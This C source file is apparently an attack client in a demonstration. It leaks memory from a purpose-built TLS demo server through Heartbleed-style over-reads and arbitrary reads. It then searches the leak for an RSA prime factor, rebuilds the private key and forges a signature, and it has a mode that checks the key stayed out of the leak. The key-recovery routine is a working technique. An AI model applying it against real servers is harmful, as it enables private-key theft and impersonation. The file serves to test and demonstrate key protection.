/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * The attacker: takes memory from the server by its bugs, looks for its private RSA key, and uses
 * what it finds to sign in the server's name.
 *
 * usage: heartbleed-attack ADDRESS PORT beat|peek [KEY]
 *        heartbleed-attack --new-key KEY CERTIFICATE      makes them, for the server
 *
 * It knows what everyone knows: the server's certificate. A prime of the key gives itself away: it
 * divides the certificate's modulus. With KEY, the true key's file, it looks in what leaked for any
 * eight bytes of any secret part of it, in both byte orders, and of its PEM text: the proof, for
 * us, that nothing is there.
 *
 * Exit code: 0 the key was found and a forged signature is right; 1 nothing was found; 2 usage;
 * 3 something went wrong; 4 fragments, but no key.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <openssl/bn.h>
#include <openssl/core_names.h>
#include <openssl/err.h>
#include <openssl/evp.h>
#include <openssl/param_build.h>
#include <openssl/pem.h>
#include <openssl/ssl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#define LINE_BYTES  4096
#define BEAT_STEP   (1u << 16)
#define BEAT_BYTES  (1u << 22)
#define PEEK_BYTES  (1u << 18)
#define FRAGMENT    8 /* bytes: by chance one stands in 64 MiB once in 10^11 tries */
#define PARTS_MAX   16
#define FORGED_TEXT "signed by whoever can read the server's memory"

static SSL *ssl;
static unsigned char *leaked;
static size_t leaked_len, leaked_room;

static void die(const char *what)
{
	fprintf(stderr, "attack: %s\n", what);
	ERR_print_errors_fp(stderr);
	exit(3);
}

/* ---- talking to the server ---- */

static void connect_to(const char *address, int port)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };
	SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
	int s = socket(AF_INET, SOCK_STREAM, 0);

	if (inet_pton(AF_INET, address, &a.sin_addr) != 1 || s < 0 ||
	    connect(s, (struct sockaddr *)&a, sizeof(a)) != 0)
		die("cannot connect");
	ssl = SSL_new(ctx);
	if (ssl == NULL || SSL_set_fd(ssl, s) != 1 || SSL_connect(ssl) != 1)
		die("no TLS connection");
}

static void say(const char *line)
{
	if (SSL_write(ssl, line, (int)strlen(line)) <= 0)
		die("the server went away");
}

static bool read_if_there(unsigned char *to, size_t len)
{
	while (len > 0) {
		size_t n;

		if (SSL_read_ex(ssl, to, len, &n) != 1)
			return false;
		to += n;
		len -= n;
	}
	return true;
}

static void read_exactly(unsigned char *to, size_t len)
{
	if (!read_if_there(to, len))
		die("the server went away");
}

static void read_line(char *line)
{
	for (size_t i = 0; i < LINE_BYTES - 1; i++) {
		read_exactly((unsigned char *)line + i, 1);
		if (line[i] == '\n') {
			line[i + 1] = '\0';
			return;
		}
	}
	die("the server talks nonsense");
}

/* Room for len more leaked bytes. */
static unsigned char *more(size_t len)
{
	unsigned char *at;

	if (len > leaked_room - leaked_len) {
		leaked_room = 2 * (leaked_room + len);
		leaked = realloc(leaked, leaked_room);
		if (leaked == NULL)
			die("out of memory");
	}
	at = leaked + leaked_len;
	leaked_len += len;
	return at;
}

/*
 * HeartBleed: a short text that claims to be long. Longer each time, until the server reads over
 * the end of its heap and dies.
 */
static void leak_by_beat(void)
{
	char line[LINE_BYTES];

	more(BEAT_BYTES);
	leaked_len = 0;
	for (unsigned len = BEAT_STEP; len <= BEAT_BYTES; len += BEAT_STEP) {
		snprintf(line, sizeof(line), "BEAT %u bird\n", len);
		if (SSL_write(ssl, line, (int)strlen(line)) <= 0 || !read_if_there(leaked, len))
			return;
		leaked_len = len;
	}
}

static void leak_range(unsigned long from, unsigned long to)
{
	char line[LINE_BYTES];

	for (unsigned long at = from; at < to; at += PEEK_BYTES) {
		unsigned long want = to - at < PEEK_BYTES ? to - at : PEEK_BYTES, got;

		snprintf(line, sizeof(line), "PEEK %lx %lu\n", at, want);
		say(line);
		read_line(line);
		got = strtoul(line, NULL, 10);
		if (got > want)
			die("the server talks nonsense");
		read_exactly(more(got), got);
	}
}

/* All that the process says it has, and all below 4 GiB where PrivUser would be. */
static void leak_by_peek(void)
{
	static struct {
		unsigned long from, to;
	} range[4096];
	char line[LINE_BYTES];
	unsigned n = 0;

	say("MAPS\n");
	for (read_line(line); line[0] != '\n'; read_line(line)) {
		if (n < 4096 && sscanf(line, "%lx-%lx", &range[n].from, &range[n].to) == 2)
			n++;
	}
	for (unsigned i = 0; i < n; i++)
		leak_range(range[i].from, range[i].to);
}

/* ---- looking for the key ---- */

static void reverse(unsigned char *to, const unsigned char *from, size_t len)
{
	for (size_t i = 0; i < len; i++)
		to[i] = from[len - 1 - i];
}

/* Could it be a prime of that size? Odd, with its upper bits set as generators do. */
static bool worth_a_division(const unsigned char *be, size_t len)
{
	return (be[0] & 0x80) != 0 && (be[len - 1] & 1) != 0;
}

static BIGNUM *factor_at(const unsigned char *at, size_t len, const BIGNUM *n, BN_CTX *ctx)
{
	static unsigned char turned[1024];
	BIGNUM *p = BN_new(), *rest = BN_new();

	reverse(turned, at, len);
	for (int order = 0; order < 2; order++) {
		const unsigned char *be = order == 0 ? at : turned;

		if (!worth_a_division(be, len))
			continue;
		BN_bin2bn(be, (int)len, p);
		if (BN_mod(rest, n, p, ctx) == 1 && BN_is_zero(rest)) {
			BN_free(rest);
			return p;
		}
	}
	BN_free(p);
	BN_free(rest);
	return NULL;
}

/*
 * A factor of n in what leaked. Primes lie at addresses that are multiples of eight, or anywhere
 * in DER.
 */
static BIGNUM *find_factor(const BIGNUM *n)
{
	size_t len = (size_t)BN_num_bytes(n) / 2;
	BN_CTX *ctx = BN_CTX_new();
	BIGNUM *p = NULL;

	for (size_t i = 0; p == NULL && i + len <= leaked_len; i++)
		if (leaked[i] != 0 || leaked[i + len - 1] != 0)
			p = factor_at(leaked + i, len, n, ctx);
	BN_CTX_free(ctx);
	return p;
}

/* ---- using it ---- */

static EVP_PKEY *key_from(const BIGNUM *n, const BIGNUM *e, const BIGNUM *p)
{
	BN_CTX *ctx = BN_CTX_new();
	BIGNUM *q = BN_new(), *d = BN_new(), *p1 = BN_dup(p), *q1, *phi = BN_new();
	OSSL_PARAM_BLD *b = OSSL_PARAM_BLD_new();
	EVP_PKEY_CTX *make = EVP_PKEY_CTX_new_from_name(NULL, "RSA", NULL);
	EVP_PKEY *key = NULL;

	BN_div(q, NULL, n, p, ctx);
	q1 = BN_dup(q);
	BN_sub_word(p1, 1);
	BN_sub_word(q1, 1);
	BN_mul(phi, p1, q1, ctx);
	BN_mod_inverse(d, e, phi, ctx);
	OSSL_PARAM_BLD_push_BN(b, OSSL_PKEY_PARAM_RSA_N, n);
	OSSL_PARAM_BLD_push_BN(b, OSSL_PKEY_PARAM_RSA_E, e);
	OSSL_PARAM_BLD_push_BN(b, OSSL_PKEY_PARAM_RSA_D, d);
	OSSL_PARAM *params = OSSL_PARAM_BLD_to_param(b);

	if (EVP_PKEY_fromdata_init(make) != 1 ||
	    EVP_PKEY_fromdata(make, &key, EVP_PKEY_KEYPAIR, params) != 1)
		die("the factor makes no key");
	return key;
}

/* Sign with the stolen key, and check with the certificate's, as anyone would. */
static bool forge(EVP_PKEY *stolen, EVP_PKEY *public)
{
	unsigned char sig[1024];
	size_t len = sizeof(sig);
	EVP_MD_CTX *m = EVP_MD_CTX_new();
	const unsigned char *text = (const unsigned char *)FORGED_TEXT;

	if (EVP_DigestSignInit(m, NULL, EVP_sha256(), NULL, stolen) != 1 ||
	    EVP_DigestSign(m, sig, &len, text, strlen(FORGED_TEXT)) != 1)
		die("cannot sign");
	EVP_MD_CTX_reset(m);
	return EVP_DigestVerifyInit(m, NULL, EVP_sha256(), NULL, public) == 1 &&
	       EVP_DigestVerify(m, sig, len, text, strlen(FORGED_TEXT)) == 1;
}

/* ---- the proof that nothing is there ---- */

struct part {
	const char *name;
	unsigned char *bytes;
	size_t len;
	unsigned long found;
};

static struct part parts[PARTS_MAX];
static unsigned nparts;

static void add_part(const char *name, const unsigned char *bytes, size_t len)
{
	struct part *p = &parts[nparts++];

	p->name = name;
	p->len = len;
	p->bytes = malloc(len);
	memcpy(p->bytes, bytes, len);
}

static void add_number(const char *name, const EVP_PKEY *key, const char *param)
{
	unsigned char be[1024], le[1024];
	BIGNUM *bn = NULL;
	int len;

	if (EVP_PKEY_get_bn_param(key, param, &bn) != 1)
		return;
	len = BN_bn2bin(bn, be);
	reverse(le, be, (size_t)len);
	add_part(name, be, (size_t)len);
	add_part(name, le, (size_t)len);
	BN_free(bn);
}

static void add_pem(const char *path)
{
	FILE *f = fopen(path, "r");
	char text[16384], *at, *end;
	size_t n = f != NULL ? fread(text, 1, sizeof(text) - 1, f) : 0;

	text[n] = '\0';
	if (f != NULL)
		fclose(f);
	/* From the second line on: the first is the same for all keys. */
	at = strchr(text, '\n');
	at = at != NULL ? strchr(at + 1, '\n') : NULL;
	end = at != NULL ? strstr(at, "-----END") : NULL;
	if (end == NULL)
		die("the key's file is no PEM");
	add_part("text of the PEM file", (unsigned char *)at + 1, (size_t)(end - at) - 1);
}

static unsigned long hash_of(const unsigned char *p)
{
	uint64_t v;

	memcpy(&v, p, sizeof(v));
	return (v * 0x9e3779b97f4a7c15ull) >> 44;
}

/* Every FRAGMENT bytes of every part, looked for at every place of what leaked. */
static unsigned long count_fragments(void)
{
	static struct {
		const unsigned char *bytes;
		struct part *part;
	} table[1u << 20];
	unsigned long total = 0;

	for (unsigned i = 0; i < nparts; i++) {
		for (size_t j = 0; j + FRAGMENT <= parts[i].len; j++) {
			unsigned long h = hash_of(parts[i].bytes + j);

			while (table[h].bytes != NULL)
				h = (h + 1) & ((1u << 20) - 1);
			table[h].bytes = parts[i].bytes + j;
			table[h].part = &parts[i];
		}
	}
	for (size_t i = 0; i + FRAGMENT <= leaked_len; i++) {
		unsigned long h = hash_of(leaked + i);

		for (; table[h].bytes != NULL; h = (h + 1) & ((1u << 20) - 1)) {
			if (memcmp(table[h].bytes, leaked + i, FRAGMENT) == 0) {
				table[h].part->found++;
				total++;
				break;
			}
		}
	}
	return total;
}

static unsigned long look_for_fragments(const char *path)
{
	FILE *f = fopen(path, "r");
	EVP_PKEY *key = f != NULL ? PEM_read_PrivateKey(f, NULL, NULL, NULL) : NULL;
	unsigned long total;

	if (key == NULL)
		die("cannot read the true key to compare with");
	fclose(f);
	add_number("p", key, OSSL_PKEY_PARAM_RSA_FACTOR1);
	add_number("q", key, OSSL_PKEY_PARAM_RSA_FACTOR2);
	add_number("d", key, OSSL_PKEY_PARAM_RSA_D);
	add_number("d mod p-1", key, OSSL_PKEY_PARAM_RSA_EXPONENT1);
	add_number("d mod q-1", key, OSSL_PKEY_PARAM_RSA_EXPONENT2);
	add_number("1/q mod p", key, OSSL_PKEY_PARAM_RSA_COEFFICIENT1);
	add_pem(path);
	total = count_fragments();
	for (unsigned i = 0; i < nparts; i++)
		if (parts[i].found > 0)
			printf("fragments: %lu places with bytes of %s\n", parts[i].found,
			       parts[i].name);
	if (total == 0)
		printf("fragments: none, of p, q, d, their remainders, both byte orders, nor of the PEM text\n");
	return total;
}

/* ---- a key for the server ---- */

static X509 *certificate_of(EVP_PKEY *key)
{
	X509 *cert = X509_new();
	X509_NAME *name = X509_get_subject_name(cert);

	X509_set_version(cert, X509_VERSION_3);
	ASN1_INTEGER_set(X509_get_serialNumber(cert), 1);
	X509_gmtime_adj(X509_getm_notBefore(cert), -3600);
	X509_gmtime_adj(X509_getm_notAfter(cert), 24 * 3600);
	X509_NAME_add_entry_by_txt(name, "CN", MBSTRING_ASC, (const unsigned char *)"demo", -1, -1,
				   0);
	X509_set_issuer_name(cert, name);
	X509_set_pubkey(cert, key);
	if (X509_sign(cert, key, EVP_sha256()) == 0)
		die("cannot sign the certificate");
	return cert;
}

static int make_key(const char *key_path, const char *cert_path)
{
	EVP_PKEY *key = EVP_RSA_gen(2048);
	FILE *to;

	if (key == NULL)
		die("cannot make a key");
	umask(077);
	to = fopen(key_path, "w");
	if (to == NULL || PEM_write_PrivateKey(to, key, NULL, NULL, 0, NULL, NULL) != 1 ||
	    fclose(to) != 0)
		die(key_path);
	to = fopen(cert_path, "w");
	if (to == NULL || PEM_write_X509(to, certificate_of(key)) != 1 || fclose(to) != 0)
		die(cert_path);
	return 0;
}

/* ---- the attack ---- */

int main(int argc, char **argv)
{
	EVP_PKEY *public, *stolen;
	BIGNUM *n = NULL, *e = NULL, *p;
	unsigned long fragments = 0;

	if (argc == 4 && strcmp(argv[1], "--new-key") == 0)
		return make_key(argv[2], argv[3]);
	if (argc < 4 || argc > 5 ||
	    (strcmp(argv[3], "beat") != 0 && strcmp(argv[3], "peek") != 0)) {
		fprintf(stderr, "usage: heartbleed-attack ADDRESS PORT beat|peek [KEY]\n");
		return 2;
	}
	connect_to(argv[1], atoi(argv[2]));
	public = X509_get_pubkey(SSL_get1_peer_certificate(ssl));
	if (public == NULL || EVP_PKEY_get_bn_param(public, OSSL_PKEY_PARAM_RSA_N, &n) != 1 ||
	    EVP_PKEY_get_bn_param(public, OSSL_PKEY_PARAM_RSA_E, &e) != 1)
		die("the server has no RSA certificate");
	if (strcmp(argv[3], "beat") == 0)
		leak_by_beat();
	else
		leak_by_peek();
	printf("leaked: %zu bytes\n", leaked_len);
	if (argc == 5)
		fragments = look_for_fragments(argv[4]);
	p = find_factor(n);
	if (p == NULL) {
		printf("key: not found\n");
		return fragments > 0 ? 4 : 1;
	}
	stolen = key_from(n, e, p);
	if (!forge(stolen, public))
		die("the forged signature is wrong");
	printf("key: FOUND; \"%s\" verifies with the server's certificate\n", FORGED_TEXT);
	return 0;
}
